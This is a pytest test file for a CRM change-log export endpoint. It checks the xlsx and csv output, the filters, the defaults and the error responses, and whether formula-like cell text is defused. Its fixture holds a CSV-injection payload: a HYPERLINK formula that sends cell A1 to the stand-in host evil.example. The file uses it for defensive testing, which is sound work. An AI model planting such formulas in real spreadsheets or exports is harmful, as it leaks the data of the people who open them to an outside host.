"""Exporting the change log over HTTP as .xlsx and .csv, on SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone
from typing import Callable

import openpyxl
import pytest
from flask.testing import FlaskClient

from crm_shared.changes import Change
from crm_shared.envelope import Actor, CloudEvent
from crm_shared.testing.csv_safety import dangerous_cells, hostile_texts

T0 = datetime(2026, 11, 22, 10, 0, tzinfo=timezone.utc)
EXPORT = "/api/v1/audit/entries/export"
HEADER = ["Date", "User", "Object type", "Object", "Link", "Operation", "Field", "Before", "After"]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def sample(
    make_event: Callable[..., CloudEvent], record: Callable[[list[CloudEvent]], None]
) -> list[CloudEvent]:
    """A person created with two fields, renamed to a formula, then deleted; and a deal won."""
    eva = Actor("u-eva", "Eva Admin")
    events = [
        make_event(object_id="p-1", operation="created", actor=eva, time=T0,
                   changes=(Change("first_name", None, "Jana"), Change("phones", None, ["+420 1", "+420 2"]))),
        make_event(object_id="p-1", object_name=EVIL, operation="updated", actor=eva,
                   time=T0 + timedelta(minutes=1), changes=(Change("last_name", "Nováková", EVIL),)),
        make_event(object_id="p-1", object_name=EVIL, operation="deleted", actor=eva,
                   time=T0 + timedelta(minutes=2), changes=()),
        make_event(object_type="deal", object_id="d-1", object_name="Big deal", operation="updated",
                   actor=Actor("u-petr", "Petr Novák"), time=T0 + timedelta(minutes=3),
                   changes=(Change("products", None, {"sku": "A-1", "qty": 2}),)),
    ]
    record(events)
    return events


def download(client: FlaskClient, headers: dict[str, str], **query: str) -> tuple[bytes, dict[str, str]]:
    response = client.get(EXPORT, query_string=query, headers=headers)
    assert response.status_code == 200, response.get_data()
    assert response.is_streamed
    return response.get_data(), dict(response.headers)


def test_the_xlsx_export_has_the_header_and_one_row_per_changed_field(client, tokens, sample) -> None:
    data, headers = download(client, tokens.headers(), format="xlsx")

    assert headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert headers["Content-Disposition"].startswith("attachment; filename=")
    assert headers["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert [row[5:7] for row in rows[1:]] == [
        ("updated", "products"), ("deleted", None), ("updated", "last_name"),
        ("created", "first_name"), ("created", "phones"),
    ]
    assert rows[1] == (datetime(2026, 11, 22, 10, 3), "Petr Novák", "deal", "Big deal",
                       "/api/v1/deals/d-1", "updated", "products", None, '{"qty":2,"sku":"A-1"}')
    assert rows[5][7:] == (None, "+420 1, +420 2")
    assert rows[2][6:] == (None, None, None)


def test_formula_like_text_stays_text_in_the_xlsx_export(client, tokens, sample) -> None:
    data, _ = download(client, tokens.headers(), format="xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    name, after = sheet.cell(row=4, column=4), sheet.cell(row=4, column=9)
    assert (name.value, name.data_type) == (EVIL, "s")
    assert (after.value, after.data_type) == (EVIL, "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_csv_export_has_the_same_rows_with_formulas_defused(client, tokens, sample) -> None:
    data, headers = download(client, tokens.headers(), format="csv")

    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"].endswith('.csv"')
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == HEADER
    assert len(rows) == 6
    assert rows[3] == ["2026-11-22T10:01:00+00:00", "Eva Admin", "person", "'" + EVIL, "/api/v1/persons/p-1",
                       "updated", "last_name", "Nováková", "'" + EVIL]
    assert rows[2][6:] == ["", "", ""]


def test_the_export_honours_the_filters(client, tokens, sample) -> None:
    data, _ = download(client, tokens.headers(), format="csv", object_type="person", operation="created")

    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [row[6] for row in rows[1:]] == ["first_name", "phones"]


def test_xlsx_is_the_default_format(client, tokens, sample) -> None:
    data, _ = download(client, tokens.headers())

    assert data.startswith(b"PK")


def test_an_empty_export_is_the_header_alone(client, tokens, sample) -> None:
    data, _ = download(client, tokens.headers(), format="csv", user_id="nobody")

    assert data.decode("utf-8").splitlines() == [",".join(HEADER)]


@pytest.mark.parametrize(("query", "bad"), [({"format": "pdf"}, "format"), ({"limit": "5"}, "limit")])
def test_bad_export_parameters_are_a_422(client, tokens, query: dict[str, str], bad: str) -> None:
    response = client.get(EXPORT, query_string=query, headers=tokens.headers())

    assert response.status_code == 422
    assert list(response.get_json()["errors"]) == [bad]


def test_no_cell_of_the_csv_export_becomes_a_formula_whatever_the_list_separator(
    client, tokens, make_event: Callable[..., CloudEvent], record: Callable[[list[CloudEvent]], None]
) -> None:
    texts = hostile_texts(200)
    record([
        make_event(object_id=f"p-{n}", object_name=texts[n], actor=Actor("u-x", texts[-n - 1]),
                   time=T0 + timedelta(seconds=n),
                   changes=tuple(Change(texts[(n + k) % len(texts)], texts[k], [texts[n], texts[k]]) for k in range(8)))
        for n in range(0, len(texts), 4)
    ])

    data, _ = download(client, tokens.headers(), format="csv")

    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == 1 + 8 * len(range(0, len(texts), 4))
    assert dangerous_cells(data.decode("utf-8")) == []
